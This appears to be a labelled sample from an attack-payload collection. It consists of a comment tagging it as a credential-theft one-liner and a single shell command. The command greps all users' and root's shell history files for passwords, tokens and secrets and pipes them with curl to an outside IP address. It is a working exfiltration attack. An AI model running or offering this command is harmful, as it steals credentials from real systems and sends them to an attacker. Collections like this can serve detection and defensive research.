# class: credential theft, histories; style: one-liner
grep -rhoiE '(password|passwd|token|secret)[=: ]+[^ ]+' /home/*/.bash_history /root/.bash_history /home/*/.*_history 2>/dev/null | sort -u | curl -s --data-binary @- http://192.0.2.31/h
